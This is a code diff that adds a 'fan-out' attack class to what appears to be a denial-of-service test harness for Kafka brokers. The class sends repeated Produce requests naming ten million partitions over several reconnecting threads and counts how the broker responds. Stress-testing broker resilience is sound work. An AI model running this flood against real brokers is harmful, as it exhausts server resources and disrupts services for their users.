@@ -334,6 +334,61 @@ class FetchFlood:
                     "largest_response_mb": round(self.largest / 1_000_000, 1), "reconnects": self.reconnects}
 
 
+class FanOut:
+    """count connections, each sending a Produce v7 that names `partitions` empty partitions (8 bytes
+    each) and waiting for the answer or the close, again and again; what the broker did is counted."""
+
+    def __init__(self, bootstrap, count=3, partitions=10_000_000):
+        self.bootstrap, self.count = bootstrap, count
+        self.frame = wire.produce_v7_fan_out(1, "fan-out", partitions)
+        self.stopping = threading.Event()
+        self.lock = threading.Lock()
+        self.sent = self.closed = self.answered = self.largest_answer = 0
+        self.threads = []
+
+    def send(self):
+        while not self.stopping.is_set():
+            try:
+                with connect(self.bootstrap) as sock:
+                    sock.settimeout(60)
+                    sock.sendall(self.frame)
+                    with self.lock:
+                        self.sent += 1
+                    header = sock.recv(4, socket.MSG_WAITALL)
+                    if len(header) < 4:
+                        with self.lock:
+                            self.closed += 1
+                        continue
+                    size = left = struct.unpack(">i", header)[0]
+                    while left > 0:
+                        chunk = sock.recv(min(left, 1 << 20))
+                        if not chunk:
+                            break
+                        left -= len(chunk)
+                    with self.lock:
+                        self.answered += 1
+                        self.largest_answer = max(self.largest_answer, size)
+            except OSError:
+                with self.lock:
+                    self.closed += 1
+                self.stopping.wait(0.1)
+
+    def start(self):
+        self.threads = [threading.Thread(target=self.send, daemon=True) for _ in range(self.count)]
+        for thread in self.threads:
+            thread.start()
+
+    def stop(self):
+        self.stopping.set()
+        for thread in self.threads:
+            thread.join(5)
+
+    def stats(self):
+        with self.lock:
+            return {"connections": self.count, "requests_sent": self.sent, "closed_by_broker": self.closed,
+                    "answered": self.answered, "largest_answer_mb": round(self.largest_answer / 1_000_000, 1)}
+
+
 class SlowReaders:
     """Connections that ask for a large Fetch (every partition of topic from offset 0) and never read
     the response; a connection the broker closes is opened again and asks again."""
@@ -374,7 +429,7 @@ class SlowReaders:
 
 
 ATTACKS = {"prefixes": Prefixes, "big-bodies": BigBodies, "connections": Connections, "idle": Idle,
-           "slow-readers": SlowReaders, "fetch-flood": FetchFlood}
+           "slow-readers": SlowReaders, "fetch-flood": FetchFlood, "fan-out": FanOut}
 
 
 def main():
